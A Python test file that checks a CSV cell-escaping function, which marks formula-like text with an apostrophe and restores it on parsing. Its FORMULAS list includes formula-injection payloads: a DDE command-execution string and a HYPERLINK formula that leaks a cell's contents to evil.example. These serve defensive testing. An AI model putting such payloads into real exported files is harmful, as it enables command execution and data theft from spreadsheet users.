"""Cells of CSV files: no text is a formula to a spreadsheet, and every value comes back as it was."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.models.strategies import applications, contracts, tenders
from thirty3.errors import ParseError
from thirty3.models.application import Application
from thirty3.models.contract import Contract
from thirty3.models.tender import Tender
from thirty3.normalise.cells import parse_cell, parse_cells, safe_cell, safe_cells

texts = st.text() | st.text("'=+-@\t\r\n\0 ＝＋－＠﹢﹣⁼A1,;|\"\ufeff\u200b\xa0\u3000", max_size=6)

FORMULAS = [
    "=1+1",
    "+44",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1",
    "＋1",
    "－1",
    "＠1",
    "﹢1",
    " =1",
    "\u3000＝1",
    "\ufeff=1",
    "\u200b=1",
    "=cmd|' /C calc'!A1",
    '=HYPERLINK("https://evil.example?"&A1,"here")',
]


@given(texts)
@example("")
@example("'")
@example("''=")
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert parse_cell(safe_cell(text)) == text


@given(texts)
def test_a_text_is_marked_once_or_not_at_all(text: str) -> None:
    assert safe_cell(text) in (text, f"'{text}")


@given(texts)
def test_no_cell_begins_with_what_a_spreadsheet_calculates(text: str) -> None:
    cell = safe_cell(text)
    assert cell[0] not in "=+-@＝＋－＠\t\r\n\0"
    assert cell.strip("\t\r\n\0 \xa0\u3000\ufeff\u200b")[:1] not in tuple("=+-@＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_marked_however_it_is_disguised(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Housing - repairs", "1+1", "A=B", "£5", "(-5)", "Ö", "…", " spaced"])
def test_an_ordinary_text_is_left_alone(text: str) -> None:
    assert safe_cell(text) == text


def test_nothing_and_an_empty_text_are_told_apart() -> None:
    assert safe_cells({"a": None, "b": ""}, {"a": "text", "b": "text"}) == ["", "'"]
    assert (parse_cell(""), parse_cell("'")) == (None, "")


@given(contracts | tenders | applications)
def test_a_row_comes_back_from_a_csv_file_as_it_was(record: Contract | Tender | Application) -> None:
    columns, out = record.columns(), io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(columns)
    writer.writerow(safe_cells(record.row(), columns))
    (line,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert parse_cells(line, columns) == record.row()


@given(st.dictionaries(st.sampled_from("abc"), texts | st.none(), min_size=1))
def test_texts_come_back_from_a_csv_file_whatever_they_hold(row: dict[str, str | None]) -> None:
    columns, out = dict.fromkeys(row, "text"), io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow([*columns, "more"])
    writer.writerow([*safe_cells(row, columns), "x"])
    (line,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert parse_cells(line, columns) == row


def test_numbers_and_days_are_never_marked() -> None:
    kinds = {"pence": "integer", "score": "number", "is": "boolean", "day": "date", "at": "instant"}
    row: dict[str, Any] = {
        "pence": -500, "score": -0.1, "is": True, "day": "2026-11-25", "at": "2026-11-25T12:00:00Z",
    }  # fmt: skip
    assert safe_cells(row, kinds) == ["-500", "-0.1", "true", "2026-11-25", "2026-11-25T12:00:00Z"]


@pytest.mark.parametrize("kind", ["integer", "number", "boolean"])
def test_a_cell_that_does_not_hold_what_its_column_says_is_named(kind: str) -> None:
    with pytest.raises(ParseError, match=f"lots is no {kind}: .*several"):
        parse_cells({"lots": "several"}, {"lots": kind})


def test_an_absent_column_is_named() -> None:
    with pytest.raises(ParseError, match="no column 'lots'"):
        parse_cells({"lot": "1"}, {"lots": "integer"})
